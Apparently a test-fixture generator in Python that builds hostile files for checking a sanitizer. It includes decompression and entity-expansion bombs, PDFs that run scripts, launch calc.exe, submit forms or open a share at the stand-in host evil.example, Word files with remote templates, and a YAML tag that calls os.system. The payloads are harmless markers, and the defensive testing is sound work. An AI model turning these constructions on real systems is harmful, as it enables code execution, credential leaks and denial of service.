"""Makers of hostile pictures, PDFs and office files: what git should not hold, or what is clearer as the lines that make it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Any

import pikepdf
from PIL import Image

GPS_EXIF = (
    b"II*\0\x08\0\0\0"
    + struct.pack("<H", 3)
    + struct.pack("<HHIHH", 0x0112, 3, 1, 6, 0)  # turned by a quarter
    + struct.pack("<HHI4s", 0x0110, 2, 4, b"Cam\0")
    + struct.pack("<HHII", 0x8825, 4, 1, 50)
    + struct.pack("<I", 0)
    + struct.pack("<HHHI4sI", 1, 1, 2, 2, b"N\0\0\0", 0)
)
"""A camera's name, a quarter turn, and a directory that says where the picture was taken."""


def make_picture(form: str, width: int = 40, height: int = 30, mode: str = "RGB", **options: Any) -> bytes:
    """Encode a small plain picture of two colours."""
    image = Image.new(mode, (width, height), "#C8102E" if mode != "L" else 90)
    image.paste("white" if mode != "L" else 255, (0, 0, width // 2, height // 2))
    buffer = io.BytesIO()
    if form == "JPEG" and "exif" in options:
        options["exif"] = b"Exif\0\0" + options["exif"]
    image.save(buffer, form, **options)
    return buffer.getvalue()


def make_chunk(kind: bytes, content: bytes) -> bytes:
    """Write a chunk of a PNG."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def insert_chunk(png: bytes, kind: bytes, content: bytes) -> bytes:
    """Put a chunk behind a PNG's header."""
    return png[:33] + make_chunk(kind, content) + png[33:]


def make_bomb_png(width: int = 60_000, height: int = 60_000) -> bytes:
    """A PNG of billions of pixels in some kilobytes: stated in its header, and black."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    packed = zlib.compress(b"\0" * 1_000_000, 9)
    return b"\x89PNG\r\n\x1a\n" + make_chunk(b"IHDR", header) + make_chunk(b"IDAT", packed) + make_chunk(b"IEND", b"")


def make_profile_bomb() -> bytes:
    """A PNG whose colour profile unpacks to 200 MB."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"\0" * 1_000_000) for _ in range(200)) + packer.flush()
    return insert_chunk(make_picture("PNG"), b"iCCP", b"bomb\0\0" + packed)


def insert_segment(jpeg: bytes, marker: int, content: bytes) -> bytes:
    """Put a segment behind the first two bytes of a JPEG."""
    return jpeg[:2] + b"\xff" + bytes([marker]) + struct.pack(">H", len(content) + 2) + content + jpeg[2:]


def state_size(jpeg: bytes, width: int, height: int) -> bytes:
    """Write another size into a JPEG's frame."""
    at = next(place for place in range(len(jpeg)) if jpeg[place] == 0xFF and jpeg[place + 1] in {0xC0, 0xC2})
    return jpeg[: at + 5] + struct.pack(">HH", height, width) + jpeg[at + 9 :]


def repeat_scans(jpeg: bytes, times: int) -> bytes:
    """Repeat the last scan of a progressive JPEG: each costs a pass over all its pixels."""
    start = jpeg.rindex(b"\xff\xda")
    return jpeg[:-2] + jpeg[start:-2] * times + jpeg[-2:]


def make_moving(form: str) -> bytes:
    """An animated PNG or WebP of three pictures."""
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "white", "black")]
    buffer = io.BytesIO()
    frames[0].save(buffer, form, save_all=True, append_images=frames[1:], duration=100)
    return buffer.getvalue()


def make_webp_of_two_sizes() -> bytes:
    """A WebP whose extended header states another size than its picture has."""
    data = bytearray(make_picture("WEBP", exif=GPS_EXIF))
    data[24:27] = (16_000).to_bytes(3, "little")
    return bytes(data)


def make_zip(parts: Mapping[str, str | bytes], before: bytes = b"") -> bytes:
    """Pack parts, behind ``before``."""
    buffer = io.BytesIO(before)
    buffer.seek(0, io.SEEK_END)
    with zipfile.ZipFile(buffer, "a" if before else "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="{}"/></Types>'
)
PLAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="http://evil.example/x" TargetMode="{}"/>'
    "</Relationships>"
)


def make_docx(extra: Mapping[str, str | bytes] | None = None, kind: str = PLAIN_TYPE, before: bytes = b"") -> bytes:
    """A Word document with some parts more."""
    parts = {"[Content_Types].xml": TYPES.format(kind), "word/document.xml": "<w:document/>", **(extra or {})}
    return make_zip(parts, before)


def make_zip_bomb() -> bytes:
    """A Word document that unpacks to gigabytes by its own account."""
    return make_docx({f"word/media/{index}.bin": b"\0" * 60_000_000 for index in range(9)})


def make_locked_docx() -> bytes:
    """A Word document whose parts say that they are encrypted."""
    data = bytearray(make_docx())
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


def make_odt(extra: Mapping[str, str | bytes] | None = None) -> bytes:
    """An OpenDocument text with some parts more."""
    return make_zip({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>", **(extra or {})})


def make_pdf(action: Mapping[str, Any] | None = None, **options: Any) -> bytes:
    """A PDF of one empty page; with ``action`` it has that when it opens."""
    document = pikepdf.new()
    document.add_blank_page()
    if action is not None:
        document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(action))
    buffer = io.BytesIO()
    document.save(buffer, **options)
    return buffer.getvalue()


def make_script_pdf(**options: Any) -> bytes:
    """A PDF that runs a script when it opens."""
    return make_pdf({"/S": pikepdf.Name("/JavaScript"), "/JS": pikepdf.String("app.alert(1)")}, **options)


def make_packed_script_pdf() -> bytes:
    """The same with its objects packed, so that none of its bytes says so."""
    return make_script_pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)


def make_escaped_script_pdf() -> bytes:
    """The same with its names written in codes."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>",
        b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
        b"<</#53/J#61v#61Scrip#74/J#53(app.alert(1))>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>",
    ]
    data, rows = b"%PDF-1.7\n", b"0000000000 65535 f \n"
    for number, each in enumerate(objects, 1):
        rows += b"%010d 00000 n \n" % len(data)
        data += b"%d 0 obj %b endobj\n" % (number, each)
    return data + b"xref\n0 5\n%btrailer <</Size 5/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (rows, len(data))


def make_launch_pdf() -> bytes:
    """A PDF that starts a program when it opens."""
    return make_pdf(
        {"/S": pikepdf.Name("/Launch"), "/F": pikepdf.String("calc.exe")}, object_stream_mode=pikepdf.ObjectStreamMode.generate
    )


def make_sending_pdf() -> bytes:
    """A PDF that sends a form when it opens."""
    return make_pdf({"/S": pikepdf.Name("/SubmitForm"), "/F": pikepdf.String("http://evil.example/")})


def make_remote_pdf() -> bytes:
    """A PDF that opens another file, on a share that learns who opened it."""
    return make_pdf({"/S": pikepdf.Name("/GoToR"), "/F": pikepdf.String("\\\\evil.example\\x.pdf")})


def make_carrying_pdf() -> bytes:
    """A PDF with a program in it."""
    document = pikepdf.new()
    document.add_blank_page()
    document.attachments["run.exe"] = b"MZ"
    buffer = io.BytesIO()
    document.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return buffer.getvalue()


def make_locked_pdf() -> bytes:
    """A PDF that asks for a password."""
    return make_pdf(encryption=pikepdf.Encryption(owner="a", user="b"))


def make_bomb_pdf() -> bytes:
    """A PDF whose table of objects unpacks to 500 MB."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 1_000_000) for _ in range(500)) + packer.flush()
    objects = [
        b"1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n",
        b"2 0 obj <</Type/Pages/Kids[]/Count 0>> endobj\n",
        b"3 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>> stream\n%b\nendstream endobj\n" % (len(packed), packed),
    ]
    data, places = b"%PDF-1.7\n", []
    for each in objects:
        places.append(len(data))
        data += each
    rows = (
        b"".join(struct.pack(">BIB", 1, place, 0) for place in places)
        + struct.pack(">BIB", 1, len(data), 0)
        + struct.pack(">BIB", 2, 3, 0)
    )
    table = struct.pack(">BIB", 0, 0, 255) + rows
    start = len(data)
    data += b"4 0 obj <</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>> stream\n%b\nendstream endobj\n" % (len(table), table)
    return data + b"startxref\n%d\n%%%%EOF\n" % start


def make_nested_pdf() -> bytes:
    """A PDF with lists nested ten thousand deep."""
    return make_pdf().replace(b"/Type /Catalog", b"/Type /Catalog /X " + b"[" * 10_000 + b"]" * 10_000)


MAKERS: dict[str, Callable[[], bytes]] = {
    "png": lambda: make_picture("PNG"),
    "jpeg": lambda: make_picture("JPEG"),
    "webp": lambda: make_picture("WEBP"),
    "png-of-the-largest-size": lambda: make_picture("PNG", 8000, 5000),
    "bomb-png": make_bomb_png,
    "long-png": lambda: make_bomb_png(40_000_000, 1),
    "bomb-jpeg": lambda: state_size(make_picture("JPEG"), 60_000, 60_000),
    "empty-jpeg": lambda: state_size(make_picture("JPEG"), 0, 30),
    "scans-jpeg": lambda: repeat_scans(make_picture("JPEG", progressive=True), 500),
    "large-jpeg-of-few-bytes": lambda: state_size(make_picture("JPEG", progressive=True, subsampling=0), 8000, 5000),
    "jpeg-of-four-inks": lambda: state_size(make_picture("JPEG", mode="CMYK", progressive=True), 6000, 5000),
    "larger-jpeg-of-four-inks": lambda: state_size(make_picture("JPEG", mode="CMYK", progressive=True), 7000, 5000),
    "jpeg-of-most-scans": lambda: state_size(repeat_scans(make_picture("JPEG", progressive=True, subsampling=0), 14), 8000, 5000),
    "turned-jpeg": lambda: state_size(make_picture("JPEG", exif=GPS_EXIF, subsampling=0), 8000, 5000),
    "two-sizes-webp": make_webp_of_two_sizes,
    "profile-bomb-png": make_profile_bomb,
    "text-bomb-png": lambda: insert_chunk(make_picture("PNG"), b"zTXt", b"x\0\0" + zlib.compress(b"A" * 10_000_000)),
    "wrong-sum-png": lambda: make_picture("PNG")[:20] + b"\1" + make_picture("PNG")[21:],
    "cut-png": lambda: make_picture("PNG")[:-30],
    "cut-jpeg": lambda: make_picture("JPEG")[:-30],
    "cut-webp": lambda: make_picture("WEBP")[:-30],
    "headers-only-png": lambda: make_picture("PNG")[:33] + make_chunk(b"IEND", b""),
    "moving-png": lambda: make_moving("PNG"),
    "moving-webp": lambda: make_moving("WEBP"),
    "gif": lambda: make_picture("GIF"),
    "svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "html": lambda: b"<!doctype html><script>alert(1)</script>",
    "page-in-jpeg": lambda: insert_segment(make_picture("JPEG"), 0xFE, b"<script>CANARY-INSIDE</script>"),
    "page-behind-png": lambda: make_picture("PNG") + b"<script>CANARY-INSIDE</script>",
    "zip-behind-jpeg": lambda: make_picture("JPEG") + make_zip({"CANARY-INSIDE.js": "alert(1)"}),
    "script-in-webp": lambda: make_riff_with(b"JUNK", b"<script>CANARY-INSIDE</script>"),
    "place-in-jpeg": lambda: make_picture("JPEG", exif=GPS_EXIF + b"CANARY-INSIDE"),
    "place-in-png": lambda: make_picture("PNG", exif=GPS_EXIF + b"CANARY-INSIDE"),
    "place-in-webp": lambda: make_picture("WEBP", exif=GPS_EXIF + b"CANARY-INSIDE"),
    "exif-in-circles": lambda: make_picture("JPEG", exif=GPS_EXIF.replace(struct.pack("<I", 50), struct.pack("<I", 8))),
    "docx": make_docx,
    "macro-docx": lambda: make_docx({"word/vbaProject.bin": b"CANARY-INSIDE"}),
    "macro-type-docx": lambda: make_docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "template-docx": lambda: make_docx({"word/_rels/settings.xml.rels": RELATION.format("attachedTemplate", "External")}),
    "coded-template-docx": lambda: make_docx({"word/_rels/settings.xml.rels": RELATION.format("attachedTemplate", "&#69;xternal")}),
    "utf-16-template-docx": lambda: make_docx(
        {"word/_rels/settings.xml.rels": RELATION.format("attachedTemplate", "External").encode("utf-16")}
    ),
    "ole-docx": lambda: make_docx({"word/embeddings/oleObject1.bin": b"MZ"}),
    "laughing-docx": lambda: make_docx(
        {"word/_rels/a.xml.rels": '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'}
    ),
    "bomb-docx": make_zip_bomb,
    "locked-docx": make_locked_docx,
    "docx-behind-a-page": lambda: make_docx(before=b"<script>alert(1)</script>"),
    "zip": lambda: make_zip({"run.exe": "MZ"}),
    "macro-odt": lambda: make_odt({"Basic/Standard/Module1.xml": "Sub Main"}),
    "old-doc": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504,
    "pdf": make_pdf,
    "script-pdf": make_script_pdf,
    "packed-script-pdf": make_packed_script_pdf,
    "escaped-script-pdf": make_escaped_script_pdf,
    "launch-pdf": make_launch_pdf,
    "sending-pdf": make_sending_pdf,
    "remote-pdf": make_remote_pdf,
    "carrying-pdf": make_carrying_pdf,
    "locked-pdf": make_locked_pdf,
    "bomb-pdf": make_bomb_pdf,
    "nested-pdf": make_nested_pdf,
    "page-before-pdf": lambda: b"<script>alert(1)</script>" + make_pdf(),
    "zip-behind-pdf": lambda: make_pdf() + make_zip({"run.exe": "MZ" * 2000}) + b"x" * 2000,
    "merge-bomb": lambda: make_page("a: &a {x: 1}\n" + "".join(f"b{n}: &b{n} {{<<: [*a, *a]}}\n" for n in range(60))),
    "alias-bomb": lambda: make_page("a: &a [x, x]\n" + "".join(f"b{n}: &b{n} [*a, *a]\n" for n in range(60))),
    "python-tag": lambda: make_page('title: !!python/object/apply:os.system ["touch CANARY"]\n'),
    "deep-yaml": lambda: make_page("title: " + "[" * 30_000 + "\n"),
    "deep-map-yaml": lambda: make_page("".join("  " * depth + "a:\n" for depth in range(150))),
    "long-scalar": lambda: make_page("title: " + "A" * 900_000 + "\n"),
    "many-keys": lambda: make_page("{" + ", ".join(f"k{n}: 1" for n in range(20_000)) + "}\n"),
    "many-unknown-keys": lambda: make_page("{" + ", ".join(f"titl{n}: 1" for n in range(1_900)) + "}\n"),
    "many-quotes": lambda: make_page("title: " + "'" * 60_000 + "\n"),
    "many-colons": lambda: make_page("title: " + "a:" * 30_000 + "\n"),
    "many-question-marks": lambda: make_page("? " * 30_000 + "\n"),
    "many-comments": lambda: make_page("#\n" * 30_000 + "title: A\n"),
    "impossible-date": lambda: make_page("title: A\nrevised: 2027-99-99\n"),
    "huge-number": lambda: make_page("title: " + "9" * 50_000 + "\n"),
    "many-letters": lambda: make_page("title: A\n", "\u200b" * 30_000),
    "towers": lambda: make_page("title: A\n", ("H" + "\u0301" * 400 + " ") * 70),
    "many-data-keys": lambda: "".join(f"k{n}: a\n" for n in range(300_000)).encode(),
    "deep-data": lambda: b"a: " + b"{a: " * 20_000,
}
"""What a case of ``files.yml`` may ask for."""


def make_page(fields: str, body: str = "Words.") -> bytes:
    """Write a page of Markdown."""
    return f"---\n{fields}---\n{body}\n".encode()


def make_riff_with(kind: bytes, content: bytes) -> bytes:
    """Add a chunk to an extended WebP."""
    data = make_picture("WEBP", mode="RGBA", exif=GPS_EXIF) + kind + struct.pack("<I", len(content)) + content
    return data[:4] + struct.pack("<I", len(data) - 8) + data[8:]
